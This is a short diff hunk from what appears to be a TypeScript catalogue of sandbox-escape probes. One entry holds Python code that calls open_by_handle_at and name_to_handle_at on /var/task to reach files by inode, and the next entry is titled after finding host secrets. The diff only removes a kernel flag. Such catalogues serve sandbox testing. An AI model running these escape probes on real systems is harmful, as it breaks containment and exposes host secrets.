@@ -64,7 +64,6 @@ export const BY_FILES: readonly Escape[] = [
           struct.pack_into("II", handle, 8, inode, 0)
           tell("inode %d" % inode, lambda: call("open_by_handle_at", where, handle, os.O_RDONLY))
       tell("handle", lambda: call("name_to_handle_at", -100, b"/var/task", handle, ctypes.byref(ctypes.c_int()), 0))`,
-    ofKernel: true,
   },
   {
     name: "secrets of the host anywhere in the tree that is seen",
